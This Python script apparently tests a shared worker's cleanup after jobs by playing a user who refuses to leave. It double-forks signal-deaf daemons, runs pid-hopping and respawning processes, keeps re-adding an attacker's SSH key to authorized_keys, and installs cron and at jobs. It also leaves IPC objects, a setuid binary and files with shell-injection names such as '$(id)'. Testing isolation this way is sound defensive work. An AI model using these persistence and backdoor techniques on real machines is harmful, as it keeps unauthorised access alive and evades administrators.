"""Run on the worker by a job's user who does not want to leave, with a mark for the names of all that is left and a
public key to log in with afterwards. Prints what was tried, a line each, then "ready"."""

import ctypes
import os
import pathlib
import resource
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time

MARK, ATTACKERS_KEY = sys.argv[1:3]
SHARED = [pathlib.Path(place) for place in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock") if os.access(place, os.W_OK)]
LIBC = ctypes.CDLL(None, use_errno=True)


def tried(what):
    print("tried", what, flush=True)


def detach(work):
    """Double fork into a session of its own that hears no signal that can be ignored."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT, signal.SIGQUIT, signal.SIGUSR1):
        signal.signal(number, signal.SIG_IGN)
    null = os.open("/dev/null", os.O_RDWR)
    for stream in (0, 1, 2):
        os.dup2(null, stream)
    work()
    os._exit(0)


def sleep_for_ever():
    while True:
        time.sleep(1000)


def hop():
    """A new process every few milliseconds, the old one gone before anybody can look at it."""
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
        time.sleep(0.002)


def respawn():
    """Each child that is killed is replaced at once, by two."""
    signal.signal(signal.SIGCHLD, signal.SIG_DFL)
    while True:
        try:
            if os.fork() == 0:
                sleep_for_ever()
            if os.fork() == 0:
                respawn()
            os.wait()
        except OSError:
            time.sleep(0.005)


def write_keys():
    folder = pathlib.Path.home() / ".ssh"
    folder.mkdir(mode=0o700, exist_ok=True)
    for name in ("authorized_keys", "authorized_keys2"):
        with open(folder / name, "a") as keys:
            keys.write(ATTACKERS_KEY + "\n")


def write_keys_again():
    """Lets the attacker in again whenever the way in is taken away."""
    while True:
        try:
            write_keys()
        except OSError:
            pass
        time.sleep(0.01)


def files_again():
    while True:
        for place in SHARED:
            try:
                (place / f"{MARK}-again").write_text("x")
            except OSError:
                pass
        time.sleep(0.005)


def start(*argv):
    """With nothing of our session's, which would wait for it to end."""
    null = subprocess.DEVNULL
    return subprocess.Popen(argv, stdin=null, stdout=null, stderr=null, start_new_session=True)


def leave_processes():
    for work in (sleep_for_ever, hop, respawn, respawn, write_keys_again, files_again):
        detach(work)
    start("bash", "-c", f"trap '' TERM HUP INT; exec -a {MARK} sleep 1000")
    start("sleep", "1000").send_signal(signal.SIGSTOP)
    tried("daemons: setsid, double fork, deaf to signals, stopped, hopping from pid to pid, respawning")
    if shutil.which("unshare"):
        start("unshare", "-Urpf", "--kill-child", "sleep", "1000")
        tried("a user and pid namespace of its own")


def leave_files(place):
    for name in ("plain", "with blank", "new\nline", "-rf", "*", "\"'$(id)`", "\udcff\udcfe", "x" * 200):
        (place / f"{MARK}{name}").write_text("x")
    (place / f"-{MARK}").write_text("x")
    (place / f".{MARK}hidden").write_text("x")
    os.symlink("/", place / f"{MARK}-root")
    os.symlink("/nowhere", place / f"{MARK}-dangling")
    os.link(place / f"{MARK}plain", place / f"{MARK}-hard")
    os.mkfifo(place / f"{MARK}-fifo")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(place / f"{MARK}-socket"))
    shell = place / f"{MARK}-shell"
    shutil.copy("/bin/true", shell)
    shell.chmod(stat.S_ISUID | 0o755)
    deep = place / f"{MARK}-deep"
    deep.mkdir()
    os.chdir(deep)
    for _ in range(100):
        os.mkdir("d")
        os.chdir("d")
    os.chdir("/")
    locked = place / f"{MARK}-locked"
    (locked / "in" / "side").mkdir(parents=True)
    (locked / "in" / "file").write_text("x")
    (locked / "in").chmod(0)
    locked.chmod(0)


def leave_schedules():
    if shutil.which("crontab"):
        subprocess.run(["crontab", "-"], input=f"* * * * * touch /tmp/{MARK}-cron; sleep 1000\n", text=True, check=True)
        tried("a crontab")
    if shutil.which("at"):
        subprocess.run(["at", "now", "+", "1", "minute"], input=f"touch /tmp/{MARK}-at; sleep 1000\n", text=True,
                       stderr=subprocess.DEVNULL, check=True)
        tried("an at job")


def leave_ipc():
    private, create = 0, 0o1000
    segment = LIBC.shmget(private, 1 << 20, create | 0o666)
    assert segment >= 0
    LIBC.shmat.restype = ctypes.c_void_p
    LIBC.shmat(segment, None, 0)
    assert LIBC.msgget(private, create | 0o666) >= 0
    assert LIBC.semget(private, 1, create | 0o666) >= 0
    tried("System V shared memory, messages and semaphores")
    opened = ctypes.CDLL("librt.so.1").mq_open(f"/{MARK}".encode(), os.O_CREAT | os.O_RDWR, 0o666, None)
    if opened >= 0:
        tried("a POSIX message queue")


# Enough to be a nuisance, few enough to leave the machine to others.
resource.setrlimit(resource.RLIMIT_NPROC, (120, 120))
leave_schedules()
leave_ipc()
for shared in SHARED:
    leave_files(shared)
tried("odd names, links, pipes, sockets, setuid, deep and locked directories in " + " ".join(map(str, SHARED)))
write_keys()
leave_processes()
tried("keys of its own in authorized_keys, and again")
print("ready", flush=True)
